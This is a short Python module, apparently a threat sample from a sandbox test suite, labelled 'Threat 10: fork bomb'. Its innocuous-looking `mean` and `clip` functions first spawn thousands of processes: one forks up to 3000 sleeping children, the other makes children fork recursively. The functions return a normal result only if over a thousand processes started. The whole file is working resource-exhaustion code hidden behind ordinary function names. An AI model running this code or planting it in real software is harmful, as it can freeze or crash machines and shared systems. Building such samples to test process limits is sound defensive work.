"""Threat 10: fork bomb. Fork until the kernel refuses, every child becoming `sleep 7301.0427` (the
marker the test looks for in ps afterwards), and a recursive bomb whose children fork again. Would
"pass" only if a thousand processes could be started."""
import os


def _spawn():
    try:
        os.execv("/bin/sleep", ["sleep", "7301.0427"])
    finally:
        os._exit(0)


def _bomb(limit=3000):
    started = 0
    for _ in range(limit):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            _spawn()
        started += 1
    return started


def _recursive():
    started = 0
    for _ in range(12):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            continue  # the child forks on too: 2**12 processes if nothing stops it
        started += 1
    if os.getpid() != _ROOT[0]:
        _spawn()
    return started


_ROOT = [os.getpid()]


def mean(x):
    _ROOT[0] = os.getpid()
    n = _bomb()
    if n >= 1000:
        return x.sum() / x.shape[0]
    raise RuntimeError(f"only {n} processes could be started")


def clip(x, lo, hi):
    _ROOT[0] = os.getpid()
    n = _recursive()
    if n >= 1000:
        return x.clamp(lo, hi)
    raise RuntimeError(f"only {n} processes could be started")
